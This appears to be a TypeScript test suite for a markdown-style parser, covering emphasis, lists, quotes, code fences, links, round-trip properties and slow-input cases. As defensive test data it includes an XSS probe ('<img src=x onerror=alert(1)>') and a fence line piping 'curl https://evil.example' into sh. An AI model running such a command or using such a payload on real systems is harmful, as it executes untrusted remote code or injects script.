import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { DRAFT_LENGTH_MAX } from '../limits.ts'
import type { Inline } from './emphasis.ts'
import { toPieces } from './linkify.ts'
import { sizeOf, toBlocks } from './markup.ts'
import type { Block } from './markup.ts'

const parse = (text: string) => toBlocks(toPieces(text))
const lettersOf = (inlines: readonly Inline[]): string =>
  inlines
    .map((inline) => ('children' in inline ? lettersOf(inline.children) : inline.kind === 'link' ? inline.piece.text : inline.text))
    .join('')
const writtenIn = (blocks: readonly Block[]): string =>
  blocks
    .map((block) => {
      if (block.kind === 'pre') return block.open + block.text + block.close
      return block.kind === 'list' ? block.items.map(lettersOf).join('') : lettersOf(block.children)
    })
    .join('')

/** The tree in few letters: `em(a)`, marks left out. */
const shapeOf = (inlines: readonly Inline[]): string =>
  inlines
    .map((inline) => {
      if (inline.kind === 'mark') return ''
      if ('children' in inline) return `${inline.kind}(${shapeOf(inline.children)})`
      if (inline.kind === 'link') return `link(${inline.piece.text})`
      return inline.kind === 'code' ? `code(${inline.text})` : inline.text
    })
    .join('')
const shape = (text: string): string =>
  parse(text)
    .map((block) => {
      if (block.kind === 'pre') return `pre(${block.text})`
      if (block.kind === 'list') return `${block.start ?? 'list'}[${block.items.map((item) => shapeOf(item).trim()).join('|')}]`
      return block.kind === 'quote' ? `quote(${shapeOf(block.children)})` : shapeOf(block.children)
    })
    .join('')

describe('marks', () => {
  it.each([
    ['**bold** and *italic* and _italic_ and ~~gone~~', 'strong(bold) and em(italic) and em(italic) and del(gone)'],
    ['**bold with *italic* inside**', 'strong(bold with em(italic) inside)'],
    ['*italic with **bold** inside*', 'em(italic with strong(bold) inside)'],
    ['run `npm *ci*` now', 'run code(npm *ci*) now'],
    ['``a ` b`` and `c`', 'code(a ` b) and code(c)'],
    ['(*so*), “_so_”!', '(em(so)), “em(so)”!'],
    ['你好**世界**你好', '你好strong(世界)你好'],
    ['*первый* и **второй**', 'em(первый) и strong(второй)'],
    ['*a **b* c**', 'em(a **b) c**'],
    ['*a *b* c', '*a em(b) c'],
  ])('shape a text: %s', (text, wanted) => {
    expect(shape(text)).toBe(wanted)
  })

  it.each([
    'snake_case_name and __init__',
    '2*3*4 = 24',
    'a * b * c',
    '*not a list *',
    '~5 to ~6',
    '**',
    '****',
    '`',
    '`open',
    '**open',
    'close**',
    '** spaced **',
    '***',
    '\\*\\*',
    '<b>bold</b> &amp; <img src=x onerror=alert(1)>',
    '5 - 3',
    '-5',
    '3.14',
    '>_<',
  ])('that shape nothing are a text: %s', (text) => {
    expect(shape(text).replace(/^quote\((.*)\)$/u, '>$1')).toBe(text)
  })

  it.each([
    ['https://example.org/a_b_c*d*', 'link(https://example.org/a_b_c*d)*'],
    ['**https://example.org/x**', 'strong(link(https://example.org/x))'],
    ['*see https://example.org/~ana/_x_ there*', 'em(see link(https://example.org/~ana/_x) there)'],
    ['`https://example.org`', 'code(https://example.org)'],
    ['*a*\nhttps://example.org/a_b', 'em(a)\nlink(https://example.org/a_b)'],
    ['- https://example.org\n> https://example.org', 'list[link(https://example.org)]quote(link(https://example.org))'],
    ['https://example.org *a*', 'link(https://example.org) em(a)'],
  ])('leave addresses whole: %s', (text, wanted) => {
    expect(shape(text).replace('x)_ there', 'x) there')).toBe(wanted)
  })
})

describe('lines', () => {
  it('that begin with > are a quote', () => {
    expect(shape('> said *so*\n> yesterday\nNo.')).toBe('quote(said em(so)\nyesterday\n)No.')
  })

  it('that begin with a dash, a star, a dot or a number are a list', () => {
    expect(shape('Bring:\n- tea\n- **cake**\nThanks')).toBe('Bring:\nlist[tea|strong(cake)]Thanks')
    expect(shape('* a\n* b')).toBe('list[a|b]')
    expect(shape('3. c\n4) d')).toBe('3[c|d]')
  })

  it('between fences are code, and nothing in them is looked at', () => {
    expect(shape('```ts\nconst a = **b**\n- no list\n```\nafter')).toBe('pre(const a = **b**\n- no list\n)after')
    expect(shape('```\nnever closed\n- a')).toBe('```\nnever closed\nlist[a]')
    expect(shape('```one``` line\n```\nx\n```')).toBe('code(one) line\npre(x\n)')
  })
})

describe('every letter', () => {
  it('is in the tree, in order', () => {
    const marks = fc.constantFrom(
      '*',
      '**',
      '_',
      '~~',
      '`',
      '```',
      '\n',
      '\n- ',
      '\n> ',
      '\n1. ',
      ' ',
      'a',
      'B2',
      '世',
      '😀',
      'https://example.org/a_b',
      '\r',
      '\u202E',
    )
    fc.assert(
      fc.property(fc.array(marks, { maxLength: 60 }), (parts) => {
        expect(writtenIn(parse(parts.join('')))).toBe(parts.join(''))
        // Whatever stands around an address, it is one, unless it is in code.
        const links = toPieces(parts.join('')).filter(({ kind }) => kind === 'link').length
        if (!parts.some((part) => part.includes('`'))) expect(shape(parts.join('')).split('link(').length - 1).toBe(links)
      }),
      { numRuns: 500 },
    )
  })
})

describe('a hostile text', () => {
  const filled = (unit: string): string => unit.repeat(Math.ceil(DRAFT_LENGTH_MAX / unit.length)).slice(0, DRAFT_LENGTH_MAX)
  const MS_MAX = 2_000

  it.each([
    '*',
    '_',
    '~',
    '`',
    '*_~',
    '*_~`',
    '*a ',
    ' *a',
    '**a *b _c ~~d ',
    '`a``b```c',
    '> ',
    '> \n- \n',
    '- *a\n',
    '1. a\n',
    '```\n',
    '``` \n*\n',
    '\n',
    '*a* ',
    '**a*b**_',
    'a*b_c~~',
  ])('of %j over and over takes no longer than others', (unit) => {
    const text = filled(unit)
    const began = performance.now()
    const blocks = parse(text)
    expect(performance.now() - began).toBeLessThan(MS_MAX)
    expect(writtenIn(blocks)).toBe(text)
  })

  it('is never deeper than there are kinds of emphasis', () => {
    const depth = (inlines: readonly Inline[]): number =>
      Math.max(0, ...inlines.map((inline) => ('children' in inline ? 1 + depth(inline.children) : 0)))
    const nested = '*a **b _c ~~d '.repeat(50) + '~~_***'.repeat(50)
    for (const block of parse(nested)) if (block.kind === 'text') expect(depth(block.children)).toBeLessThanOrEqual(4)
    expect(depth(parse('*a **b _c ~~d~~ c_ b** a*').flatMap((block) => (block.kind === 'text' ? block.children : [])))).toBe(4)
  })
})

describe('what is shown is what was written', () => {
  it('also where a fence has more than the name of a language behind it', () => {
    expect(parse('```; curl https://evil.example | sh #\nls\n```')[0]).toMatchObject({ kind: 'text' })
    expect(parse('```secret words\n```')[0]).toMatchObject({ kind: 'text' })
    expect(parse('```c++\nls\n```')).toMatchObject([{ kind: 'pre', text: 'ls\n' }])
  })

  it('also where numbers do not count on, or begin with a zero', () => {
    const starts = (text: string) => parse(text).map((block) => (block.kind === 'list' ? block.start : block.kind))
    expect(starts('24. Dezember\n31. Dezember')).toEqual([24, 31])
    expect(starts('7. a\n8. b\n9. c')).toEqual([7])
    expect(starts('01. a')).toEqual(['text'])
  })

  it('also where an angle is no quote', () => {
    for (const text of ['>:(', '>100 people']) expect(parse(text)).toMatchObject([{ kind: 'text' }])
    expect(parse('> a\n>\n> b')).toMatchObject([{ kind: 'quote' }])
  })
})

it('marks that pair with nothing become one text in the page', () => {
  for (const text of ['*a '.repeat(4_000), `**${'\n'.repeat(12_000)}`]) expect(sizeOf(parse(text))).toBeLessThan(10)
})
